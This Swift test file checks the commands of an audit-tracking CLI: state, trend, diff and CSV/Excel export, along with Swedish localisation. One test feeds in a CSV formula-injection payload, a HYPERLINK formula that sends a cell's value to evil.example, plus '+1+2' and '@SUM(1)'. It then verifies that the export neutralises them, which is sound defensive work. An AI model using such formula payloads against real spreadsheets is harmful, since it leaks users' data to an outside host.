import Foundation
import Testing

/// The auditor's questions through the built binary, on the seed reports.
@Suite(.serialized) struct ProjectionCommandTests {
    static func seeded() throws -> Workspace {
        let w = Workspace()
        let result = try w.ik.run(["seed"])
        try result.requireSuccess()
        return w
    }

    @Test func stateForTheYearAsKnownOnTheReportDayHasTheReportsFigures() throws {
        let w = try Self.seeded()
        let state = try w.ik.run(["state", "--period", "2024", "--plan", "SN-2024", "--as-of", "2025-02-11", "--lang", "sv"])
        #expect(state.status == 0, "\(state.stderr)")
        #expect(state.stdout.contains("Granskade"))
        let lak = try #require(state.stdout.split(separator: "\n").first { $0.contains("SN-2024-LAK") })
        #expect(lak.contains("121") && lak.contains("41") && lak.contains("mindre anmärkning"))
        let json = try w.ik.run(["state", "--period", "2024", "--plan", "SN-2024", "--format", "json"]).stdout
        #expect(json.contains("\"examined\": 84") && json.contains("\"serious\": 7"))
    }

    @Test func theInterimAndTheYearEndDiffer() throws {
        let w = try Self.seeded()
        let autumn = try w.ik.run(["state", "--period", "2024", "--plan", "SN-2024", "--as-of", "2024-10-01", "--format", "csv", "--lang", "en"]).stdout
        let winter = try w.ik.run(["state", "--period", "2024", "--plan", "SN-2024", "--as-of", "2025-02-11", "--format", "csv", "--lang", "en"]).stdout
        #expect(autumn.contains("SN-2024-LAK,Internkontroll av narkotikaklassade läkemedel,yes,1,0,79,19"))
        #expect(winter.contains("SN-2024-LAK,Internkontroll av narkotikaklassade läkemedel,yes,1,0,121,29"))
    }

    @Test func swedishIsTheDefaultAndHoldsNoEnglish() throws {
        let w = try Self.seeded()
        let outputs = [
            try w.ik.run(["state", "--plan", "SN-2024"]).stdout,
            try w.ik.run(["state", "--plan", "SDF-2013", "--format", "csv"]).stdout,
            try w.ik.run(["trend", "--plan", "SN-2024", "--bucket", "tertial"]).stdout,
            try w.ik.run(["diff", "--period", "2024", "--plan", "SN-2024", "--as-of", "2025-02-06", "--against", "2025-02-11"]).stdout,
            try w.ik.run(["export", "state", "--plan", "SN-2024", "--format", "csv"]).stdout,
        ]
        for output in outputs {
            #expect(output.contains("Granskade") || output.contains("Slag"), "\(output)")
            for english in ["Period all", "Control point", "deviating", "ratePercent", "deviationsOpen", "latestAssessment",
                            "EventCorrected", "ControlPerformed", "not-performed", "partly-satisfactory", "cumulative", "as known at",
                            "46.4"] {
                #expect(!output.contains(english), "«\(english)» in \(output)")
            }
        }
        #expect(outputs[0].contains("Period hela tiden, känt vid seq"))
        #expect(outputs[3].contains("Andel avvikande  46,4\u{00A0}%  47,6\u{00A0}%"), "\(outputs[3])")
    }

    @Test func plansAreListedAndAnUnknownIdInAFilterIsAnErrorNamingWhatExists() throws {
        let w = try Self.seeded()
        let plans = try w.ik.run(["plans"])
        #expect(plans.status == 0)
        let lines = plans.stdout.split(separator: "\n").map(String.init)
        #expect(lines.count == 5, "\(plans.stdout)")
        #expect(lines.contains { $0.hasPrefix("SN-2024 ") && $0.contains("Socialförvaltningen") && $0.contains(" 6 ")
            && $0.contains("2025-02-11 Socialchef") })
        let json = try w.ik.run(["plans", "--format", "json"]).stdout
        #expect(json.contains("\"controlPoints\": 14"))
        for arguments in [["state", "--plan", "NOPE"], ["trend", "--plan", "SN-2024", "--plan", "NOPE"], ["diff", "--plan", "NOPE"],
                          ["export", "state", "--plan", "NOPE"], ["trend", "--control", "SN-2024-NOPE"]] {
            let result = try w.ik.run(arguments)
            #expect(result.status == 65 && result.stdout.isEmpty, "\(arguments): \(result.status) \(result.stdout)")
            #expect(result.stderr.contains("NOPE as known at seq 122") && result.stderr.contains("SN-2024"), "\(result.stderr)")
        }
        // Known then, not yet: the plan SN-2024 began at seq 80-something, after 2022.
        let early = try w.ik.run(["state", "--plan", "SN-2024", "--as-of-seq", "3"])
        #expect(early.status == 65, "\(early.stderr)")
        #expect(try w.ik.run(["state", "--bogus"]).status == 64)
    }

    @Test func excelExportsOpenInASwedishExcel() throws {
        let w = try Self.seeded()
        let export = try w.ik.run(["export", "state", "--plan", "SN-2024", "--period", "2024", "--format", "csv", "--excel",
                                   "--out", "state.csv"])
        #expect(export.status == 0, "\(export.stderr)")
        let bytes = [UInt8](try w.data("state.csv"))
        #expect(Array(bytes.prefix(3)) == [0xEF, 0xBB, 0xBF])
        let text = String(decoding: bytes.dropFirst(3), as: UTF8.self)
        #expect(text.contains(";Andel avvikande (%);") && text.contains("\r\n") && !text.contains("–"))
        #expect(text.contains("SN-2024;SN-2024-SEK;Kontroll av bild och meddelande i mobiltelefoner;ja;2;0;84;40;47,6;7;"), "\(text)")
        let state = try w.ik.run(["state", "--plan", "SN-2024", "--format", "csv", "--excel"]).stdout
        #expect(state.hasPrefix("\u{FEFF}Plan;Kontrollmoment;"))
    }

    @Test func aCorrectionShowsInDiffWithOldAndNew() throws {
        let w = try Self.seeded()
        let diff = try w.ik.run(["diff", "--period", "2024", "--plan", "SN-2024", "--as-of", "2025-02-06", "--against", "2025-02-11",
                                 "--lang", "en"])
        #expect(diff.status == 0)
        #expect(diff.stdout.contains("correction"))
        #expect(diff.stdout.contains("deviating  16      17"))
        #expect(diff.stdout.contains("SN-2024-SEK    deviating    39      40"))
    }

    @Test func trendAndExportsWork() throws {
        let w = try Self.seeded()
        let trend = try w.ik.run(["trend", "--control", "SN-2024-SEK", "--bucket", "tertial", "--period", "2024", "--explain"])
        #expect(trend.stdout.contains("2024-T2") && trend.stdout.contains("2024-T3"))
        let export = try w.ik.run(["export", "deviations", "--period", "2024", "--plan", "SN-2024", "--format", "csv", "--out", "d.csv",
                                   "--lang", "en"])
        #expect(export.status == 0)
        let csv = String(decoding: try w.data("d.csv"), as: UTF8.self)
        #expect(csv.hasPrefix("Plan,Control point,Deviation,Observed"))
        #expect(csv.split(separator: "\n").count == 1 + 13)
        let bad = try w.ik.run(["state", "--period", "2024-Q5"])
        #expect(bad.status == 64)
    }

    @Test func recordedTextArrivesInCSVAsTextNeverAsAFormula() throws {
        let w = try Self.seeded()
        let formula = #"=HYPERLINK("http://evil.example/?x="&A1,"Klicka")"#
        let recorded = try w.ik.run(["record", "deviation", "--control", "SN-2024-LAK", "--deviation", "D-FORMULA",
                                     "--observed-on", "2024-10-15", "--unit", "+1+2", "--category", "@SUM(1)",
                                     "--severity", "minor", "--count", "1", "--description", formula],
                                    environment: ["IK_NOW": "2025-03-01T12:00:00Z"])
        try recorded.requireSuccess()
        for excel in [false, true] {
            let csv = try w.ik.run(["export", "deviations", "--period", "2024", "--plan", "SN-2024", "--format", "csv",
                                    "--lang", "en"] + (excel ? ["--excel"] : [])).stdout
            let line = try #require(csv.split(whereSeparator: \.isNewline).first { $0.contains("D-FORMULA") })
            let separator = excel ? ";" : ","
            #expect(line.contains(separator + "'+1+2" + separator) && line.contains(separator + "'@SUM(1)" + separator), "\(line)")
            #expect(line.contains(#""'=HYPERLINK(""http://evil.example/"#), "\(line)")
            #expect(!line.contains(separator + "=") && !line.contains(separator + "\"="), "\(line)")
        }
        let state = try w.ik.run(["state", "--period", "2024", "--plan", "SN-2024", "--format", "csv", "--excel"]).stdout
        #expect(!state.contains("'"), "figures stay numbers: \(state)")
    }

    @Test func snapshotsGiveTheSameAnswerAsFoldingFromTheStart() throws {
        let w = try Self.seeded()
        let before = try w.ik.run(["state", "--period", "2024", "--as-of-seq", "100", "--format", "json"]).stdout
        #expect(try w.ik.run(["snapshot"]).stdout.contains("projection records up to seq 122"))
        let after = try w.ik.run(["state", "--period", "2024", "--as-of-seq", "100", "--format", "json"]).stdout
        let now = try w.ik.run(["state", "--period", "2024", "--format", "json"]).stdout
        #expect(try w.ik.run(["snapshot", "--rebuild"]).status == 0)
        #expect(try w.ik.run(["state", "--period", "2024", "--format", "json"]).stdout == now)
        #expect(before == after)
    }
}
